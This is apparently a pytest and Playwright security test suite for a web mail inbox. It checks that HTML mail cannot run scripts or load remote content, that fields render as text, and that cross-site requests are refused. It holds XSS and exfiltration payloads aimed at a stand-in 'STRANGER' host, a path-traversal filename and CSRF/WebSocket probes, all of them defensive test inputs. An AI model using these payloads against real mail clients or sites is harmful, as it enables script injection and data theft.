"""Mail that attacks whoever looks at it, and the next browser tab."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

import attrs
import httpx
import pytest

from tests.inbox.site import Site
from tests.inbox.support import mail, put

from .support import wait_for_subjects

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.program("chromium")

#: 1x1, transparent.
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
#: What mail tries. STRANGER is an address that must never be asked for anything.
ATTACKS = {
    "script": "<script>top.document.title = 'owned'; fetch('STRANGER/fetch')</script>"
    "<script src=STRANGER/script></script>",
    "handlers": "<img src=x onerror=\"new Image().src='STRANGER/onerror'\">"
    "<body onload=\"location='STRANGER/onload'\">",
    "form": "<form action=STRANGER/form id=f><input name=x value=1><button id=go>Go</button></form>",
    "refresh": "<meta http-equiv=refresh content='0; url=STRANGER/refresh'>",
    "base": "<base href=STRANGER/base/ target=_top><img src=picture><link rel=stylesheet href=style>",
    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('STRANGER/svg')</script>"
    "<image href=STRANGER/svgimage /><use href=STRANGER/use#a /></svg>",
    "style": "<style>@import 'STRANGER/import'; @font-face{font-family:f;src:url(STRANGER/font)}"
    "body{background:url(STRANGER/background);font-family:f}</style><p style='background:url(STRANGER/inline)'>x",
    "images": "<img src=STRANGER/img srcset='STRANGER/set 2x'><picture><source srcset=STRANGER/source></picture>"
    "<table background=STRANGER/table><tr><td>x</table><video poster=STRANGER/poster src=STRANGER/video></video>",
    "frames": "<iframe src=STRANGER/frame></iframe><iframe srcdoc='<script>fetch(`STRANGER/srcdoc`)</script>'></iframe>"
    "<object data=STRANGER/object></object><embed src=STRANGER/embed>",
    "links": "<link rel=prefetch href=STRANGER/prefetch><link rel=preload as=image href=STRANGER/preload>"
    "<link rel=dns-prefetch href=STRANGER><link rel=manifest href=STRANGER/manifest>",
    "javascript": "<a id=go href=\"javascript:top.document.title='owned'\">x</a>",
    "own policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>"
    "fetch('STRANGER/policy')</script>",
}


@attrs.define
class Stranger:
    """A server that nobody should ask.

    Attributes:
        url: Its address.
        asked: The paths that were asked for.
    """

    url: str = ""
    asked: list[str] = attrs.field(factory=list)


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    """A server on another port."""
    made = Stranger()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if self.path == "/page" else "image/gif")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as the base class calls it

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield made
    server.shutdown()
    thread.join()
    server.server_close()


def html(text: str, subject: str = "Hostile") -> bytes:
    """A message in HTML."""
    return mail(subject, f"<p id=seen>Seen</p>{text}", Content_Type="text/html; charset=utf-8")


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(
    site: Site, new_page: Callable[..., Page], stranger: Stranger, name: str
) -> None:
    row = put(site.inbox, html(ATTACKS[name].replace("STRANGER", stranger.url)))
    page = new_page(f"/view/{row.id}")
    alone = new_page(None)
    alone.goto(f"{site.url}/view/{row.id}.html")
    frame = page.frame_locator("iframe")
    frame.locator("#seen").wait_for()
    if "id=go" in ATTACKS[name]:
        frame.locator("#go").click(no_wait_after=True)
        alone.locator("#go").click(no_wait_after=True)
    page.wait_for_timeout(250)
    assert stranger.asked == []
    assert page.title() == "Hostile · Inbox"
    assert page.url == f"{site.url}/view/{row.id}"
    assert alone.url == f"{site.url}/view/{row.id}.html"
    # Its links are this page's own: they lead to new tabs, which have nothing of it.
    assert len(page.context.pages) <= 2


def test_remote_images_are_loaded_after_a_click_alone(
    site: Site, new_page: Callable[..., Page], stranger: Stranger
) -> None:
    attack = f"<img src={stranger.url}/image><script src={stranger.url}/script></script>"
    attack += f"<link rel=stylesheet href={stranger.url}/css>"
    page = new_page(f"/view/{put(site.inbox, html(attack)).id}")
    page.frame_locator("iframe").locator("#seen").wait_for()
    assert stranger.asked == []
    page.click("#remote")
    page.wait_for_selector("text=Images from elsewhere are loaded.")
    page.frame_locator("iframe").locator("#seen").wait_for()
    for _ in range(100):
        if stranger.asked:
            break
        page.wait_for_timeout(30)
    page.wait_for_timeout(200)
    assert stranger.asked == ["/image"]


def test_data_urls_are_shown(site: Site, new_page: Callable[..., Page]) -> None:
    page = new_page(f"/view/{put(site.inbox, html(f'<img id=dot src={PIXEL}>')).id}")
    dot = page.frame_locator("iframe").locator("#dot")
    dot.wait_for(state="attached")
    assert dot.evaluate("image => image.complete && image.naturalWidth") == 1


def test_what_stands_in_fields_is_text(site: Site, page: Page) -> None:
    bad = "<img src=x onerror=alert(1)><b hx-get=/api/v1/info hx-trigger=load>"
    site.send(mail(bad, bad, From=f'"{bad}" <alice@example.com>', X_Tags=bad, X_Other=bad))
    wait_for_subjects(page, bad)
    page.click("#rows a")
    for tab in ("text", "headers", "raw", "links"):
        page.click(f"[data-tab={tab}]")
        page.wait_for_selector(f"section.tab.{tab}")
        assert page.locator("main b, main img").count() == 0
    assert bad in page.locator("h1").inner_text()


def test_a_name_that_looks_like_a_path_is_none(site: Site, new_page: Callable[..., Page]) -> None:
    octets = mail("Names", "%PDF", Content_Type='application/pdf; name="../../../etc/passwd"')
    page = new_page(f"/view/{put(site.inbox, octets).id}")
    with page.expect_download() as download:
        page.click(".attachments a")
    assert download.value.suggested_filename == "passwd"


ODD = {
    "broken MIME": mail(
        "Broken", "--x\r\nContent-Type: text/html; =\r\n\r\n<p>x\r\n--x", Content_Type="multipart/mixed; boundary=x"
    ),
    "no MIME": b"\xff\xfe\x00\x01 nothing that anybody can read",
    "empty": b"",
    "right to left": mail(
        "=?utf-8?b?16nXnNeV150g4oCu16LXldec150=?=", "שלום עולם \u202e hidden", Content_Type="text/plain; charset=utf-8"
    ),
    "emoji": mail(
        "=?utf-8?b?8J+OiSDwn5Go4oCN8J+RqeKAjfCfkac=?=", "🎉 👨‍👩‍👧", Content_Type="text/plain; charset=utf-8"
    ),
    "long word": mail("x" * 5_000, "y" * 100_000),
    "many parts": mail("Parts", "--x\r\n\r\na\r\n" * 3_000, Content_Type="multipart/mixed; boundary=x"),
    "huge part": mail("Huge", "word " * 700_000),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_mail_is_shown_and_breaks_no_layout(site: Site, new_page: Callable[..., Page], name: str) -> None:
    row = put(site.inbox, ODD[name])
    put(site.inbox, mail("The next"))
    page = new_page("/", viewport={"width": 360, "height": 700})
    assert page.locator("#rows .row").count() == 2
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.goto(f"{site.url}/view/{row.id}")
    for tab in page.locator(".tabs a").evaluate_all("tabs => tabs.map(tab => tab.dataset.tab)"):
        page.click(f"[data-tab={tab}]")
        page.wait_for_selector(f"section.tab.{tab}")
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        assert page.evaluate("document.documentElement.outerHTML.length") < 1_500_000


def test_ten_thousand_recipients(site: Site, new_page: Callable[..., Page]) -> None:
    recipients = tuple(f"r{number}@example.com" for number in range(10_000))
    row = put(site.inbox, mail("Many", To=", ".join(recipients)), recipients=recipients)
    page = new_page()
    assert ", many more" in page.locator("#rows .to").inner_text()
    assert page.locator("#side-mailboxes li").count() == 50
    page.goto(f"{site.url}/view/{row.id}")
    assert "and 9,950 more" in page.locator("#card-envelope ~ dl").inner_text()
    assert page.evaluate("document.documentElement.outerHTML.length") < 200_000


def test_pages_of_strangers_reach_nothing(site: Site, browser: Browser, stranger: Stranger) -> None:
    row = put(site.inbox, mail("Secret"))
    page = browser.new_page()
    page.goto(f"{stranger.url}/page")
    page.set_content("<p>A page of a stranger")
    ask = """async ([url, method]) => {
      try { return (await fetch(url, { method, mode: "no-cors", body: method === "GET" ? undefined : "{}" })).type; }
      catch (error) { return "failed"; }
    }"""
    assert page.evaluate(ask, [f"{site.url}/api/v1/message/{row.id}/raw", "GET"]) == "failed"
    page.evaluate(ask, [f"{site.url}/api/v1/send", "POST"])
    page.evaluate(
        "url => { const form = document.createElement('form'); form.method = 'post'; form.target = '_blank';"
        " form.action = url; document.body.append(form); form.submit(); }",
        f"{site.url}/api/v1/rules",
    )
    opened = page.evaluate(
        """url => new Promise(resolve => {
          const socket = new WebSocket(url);
          socket.onopen = () => resolve("open");
          socket.onerror = () => resolve("refused");
        })""",
        f"{site.url.replace('http', 'ws')}/api/events",
    )
    assert opened == "refused"
    page.set_content(f"<iframe src={site.url}/ id=frame></iframe>")
    page.wait_for_timeout(300)
    assert not page.frame_locator("#frame").locator("#list").count()
    assert site.inbox.store.totals().total == 1
    assert len(site.inbox.rules) == 0
    page.close()


def test_a_name_that_leads_here_is_not_answered(site: Site) -> None:
    for path in ("/", "/rules", "/static/inbox.js", "//view/latest"):
        assert httpx.get(site.url + path, headers={"Host": "stranger.example"}).status_code == 421
